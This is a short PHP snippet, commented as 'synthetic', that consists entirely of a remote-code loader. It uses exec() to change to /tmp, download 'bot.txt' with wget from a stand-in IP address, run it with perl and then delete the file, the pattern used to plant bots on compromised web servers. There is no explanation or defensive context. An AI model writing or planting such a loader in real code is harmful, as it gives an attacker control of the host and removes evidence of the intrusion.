<?php
// synthetic: fetch a script into /tmp and run it with perl
$u = 'http://198.51.100.7/';
exec('cd /tmp;wget ' . $u . 'bot.txt;perl bot.txt;rm -f bot.txt');
